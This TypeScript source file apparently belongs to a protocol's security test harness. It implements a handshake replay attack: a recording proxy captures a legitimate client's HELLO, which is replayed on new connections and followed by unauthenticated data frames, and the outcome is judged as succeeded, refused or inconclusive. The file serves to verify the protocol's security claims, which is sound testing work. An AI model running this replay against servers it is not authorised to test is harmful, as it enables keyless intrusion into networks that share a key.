/**
 * hello-replay (claims S2, S1): record a legitimate client's HELLO through a proxy, then replay it,
 * byte for byte, on fresh connections, to the target and to any other server sharing the key, at
 * once and optionally after a delay. A replay SUCCEEDS when the server answers ACCEPT and then
 * takes a DATA stream without closing: a node without the key has joined.
 *
 * The attacker never learns the key: the DATA and END frames it pushes are plain v1 frames (with the
 * recorded HELLO's version byte), which is all a v1 server asks for after ACCEPT.
 */
import { performance } from 'node:perf_hooks';
import { FrameType, HEADER_SIZE, encodeHeader } from '../../src/wire/frame.ts';
import { decodeReceipt } from '../../src/wire/control.ts';
import { concatBytes } from '../../src/wire/bytes.ts';
import { pause } from './bounds.ts';
import { describeFrame } from './frame-scan.ts';
import { RawConnection, connectSocket, openSession } from './raw-connection.ts';
import { RecordingProxy, type CapturedHandshake } from './recording-proxy.ts';
import type { AttackResult } from './result.ts';
import { runAttack, type LiveAttackContext, type AttackFindings, type CommonAttackOptions } from './run.ts';
import { formatTarget, type AttackTarget } from './target.ts';

export const HELLO_REPLAY_CLAIMS = ['S2', 'S1'];

export interface HelloReplayOptions extends CommonAttackOptions {
  /** Where the recording proxy listens (default 127.0.0.1, a free port). */
  listen?: AttackTarget;
  /** How long to wait for a client to connect through the proxy (default 10 s). */
  waitMs?: number;
  /** Replay once more after this many ms (default: only at once). */
  delayMs?: number;
  /** Servers to replay to (default: the target); another server with the same key shows cross-server replay. */
  replayTargets?: AttackTarget[];
  /** DATA bytes pushed after an ACCEPT (default 64 KiB). */
  dataBytes?: number;
  /** How long a replayed connection must stay open after its data to count as a success (default 500 ms). */
  settleMs?: number;
  /** Called with the proxy's address once it listens (the command prints it). */
  onListening?: (address: AttackTarget) => void;
}

interface ReplayAttempt {
  target: string;
  when: 'immediate' | 'delayed';
  /** The server's first answer: a frame description, or "closed" / "no answer". */
  reply: string;
  accepted: boolean;
  dataBytesSent: number;
  /** The server confirmed the pushed stream with a delivery receipt (asoc-v1 nodes send one). */
  receiptBytes: number | null;
  closedAfterData: boolean;
  closeKind: string | null;
  closedAfterMs: number | null;
  succeeded: boolean;
}

const REPLY_WAIT_MS = 2_000;
const CONNECT_FAILED = 'connect failed';

export function helloReplay(options: HelloReplayOptions): Promise<AttackResult> {
  return runAttack('hello-replay', HELLO_REPLAY_CLAIMS, options, async (context) => {
    const proxy = await RecordingProxy.start(options.listen ?? { host: '127.0.0.1', port: 0 }, context.target, context.sockets, { localAddress: context.localAddress });
    try {
      options.onListening?.(proxy.address);
      const victim = context.apiKey ? openSession(proxy.address, { ...context, apiKey: context.apiKey }) : null;
      const captured = await proxy.waitForHandshake(context.deadline.cap(options.waitMs ?? 10_000));
      const victimSession = await victim;
      if (victimSession?.established) victimSession.connection.destroy();
      if (!captured) {
        return inconclusive(`no client connected through the proxy at ${formatTarget(proxy.address)} within the wait`, proxy.stats.connections);
      }
      const attempts = await replayAll(context, captured, options);
      return judge(captured, attempts, proxy.stats.connections, victimSession ? (victimSession.established ? 'built-in client accepted' : victimSession.reason) : 'external client');
    } finally {
      await proxy.close();
    }
  });
}

async function replayAll(context: LiveAttackContext, captured: CapturedHandshake, options: HelloReplayOptions): Promise<ReplayAttempt[]> {
  const targets = options.replayTargets ?? [context.target];
  const attempts: ReplayAttempt[] = [];
  const round = async (when: ReplayAttempt['when']) => {
    for (const target of targets) if (!context.deadline.expired) attempts.push(await replayOnce(context, target, captured, when, options));
  };
  await round('immediate');
  if (options.delayMs !== undefined && context.deadline.remainingMs() > options.delayMs) {
    await pause(options.delayMs, context.deadline);
    await round('delayed');
  }
  return attempts;
}

async function replayOnce(context: LiveAttackContext, target: AttackTarget, captured: CapturedHandshake, when: ReplayAttempt['when'], options: HelloReplayOptions): Promise<ReplayAttempt> {
  const attempt: ReplayAttempt = {
    target: formatTarget(target),
    when,
    reply: 'no answer',
    accepted: false,
    dataBytesSent: 0,
    receiptBytes: null,
    closedAfterData: false,
    closeKind: null,
    closedAfterMs: null,
    succeeded: false,
  };
  let connection: RawConnection;
  try {
    connection = new RawConnection(await connectSocket(target, context));
  } catch (err) {
    attempt.reply = `${CONNECT_FAILED}: ${(err as Error).message}`;
    return attempt;
  }
  await connection.write(captured.hello.bytes);
  const reply = await connection.nextFrame(context.deadline.cap(REPLY_WAIT_MS));
  attempt.reply = reply ? describeFrame(reply) : connection.closed ? 'closed' : 'no answer';
  attempt.accepted = reply?.type === FrameType.ACCEPT;
  if (attempt.accepted) {
    const dataBytes = options.dataBytes ?? 64 * 1024;
    const version = captured.hello.version;
    const stream = concatBytes(encodeHeader(FrameType.DATA, 1, 0, dataBytes, version), new Uint8Array(dataBytes).fill(0x5a), encodeHeader(FrameType.END, 1, 1, 0, version));
    if (await connection.write(stream)) attempt.dataBytesSent = dataBytes;
    attempt.receiptBytes = await receiptWithin(connection, context.deadline.cap(options.settleMs ?? 500));
    attempt.closedAfterData = connection.closed || (await connection.waitClosed(context.deadline.cap(50)));
    attempt.succeeded = attempt.dataBytesSent > 0 && !attempt.closedAfterData;
  }
  attempt.closeKind = connection.closeKind;
  attempt.closedAfterMs = connection.closedAfterMs;
  connection.destroy();
  return attempt;
}

/** Waits `ms` for a delivery receipt, reading past any other frame; the receipt's byte count, or null. */
async function receiptWithin(connection: RawConnection, ms: number): Promise<number | null> {
  const until = performance.now() + ms;
  let receipt: number | null = null;
  while (performance.now() < until && !connection.closed) {
    const frame = await connection.nextFrame(until - performance.now());
    if (frame?.type === FrameType.CONTROL && frame.bytes) receipt = decodeReceipt(frame.bytes.subarray(HEADER_SIZE))?.bytes ?? receipt;
  }
  return receipt;
}

function judge(captured: CapturedHandshake, attempts: ReplayAttempt[], proxied: number, victim: string): AttackFindings {
  const succeeded = attempts.filter((a) => a.succeeded);
  const counts = {
    proxiedConnections: proxied,
    replays: attempts.length,
    accepted: attempts.filter((a) => a.accepted).length,
    succeeded: succeeded.length,
    closedByServer: attempts.filter((a) => a.closeKind !== null && a.closeKind !== 'local').length,
  };
  const timesMs = Object.fromEntries(attempts.flatMap((a, i) => (a.closedAfterMs === null ? [] : [[`replay${i + 1}ClosedAfter`, a.closedAfterMs]])));
  const details = { recordedHello: describeFrame(captured.hello), recordedReply: captured.reply ? describeFrame(captured.reply) : 'closed', victim, attempts };
  if (captured.reply?.type !== FrameType.ACCEPT) {
    return { outcome: 'INCONCLUSIVE', summary: `the recorded client was not accepted itself (server answered ${details.recordedReply}), so its HELLO proves nothing`, counts, timesMs, details };
  }
  if (succeeded.length > 0) {
    const where = succeeded.map((a) => `${a.target} (${a.when}${a.receiptBytes !== null ? `, receipt for ${a.receiptBytes} B` : ''})`).join(', ');
    return { outcome: 'SUCCEEDED', summary: `a recorded HELLO replayed without the key was accepted and took ${succeeded[0]!.dataBytesSent} B of DATA at ${where}`, counts, timesMs, details };
  }
  if (attempts.length === 0) return { outcome: 'INCONCLUSIVE', summary: 'the budget ran out before any replay', counts, timesMs, details };
  if (attempts.every((a) => a.reply.startsWith(CONNECT_FAILED))) return { outcome: 'INCONCLUSIVE', summary: `no replay connection opened (${attempts[0]!.reply})`, counts, timesMs, details };
  const answers = [...new Set(attempts.map((a) => (a.accepted ? `${a.reply}, then closed after the data` : a.reply)))].join('; ');
  return { outcome: 'REFUSED', summary: `every replay was stopped (${answers})`, counts, timesMs, details };
}

function inconclusive(summary: string, proxied: number): AttackFindings {
  return { outcome: 'INCONCLUSIVE', summary, counts: { proxiedConnections: proxied, replays: 0 }, timesMs: {}, details: {} };
}
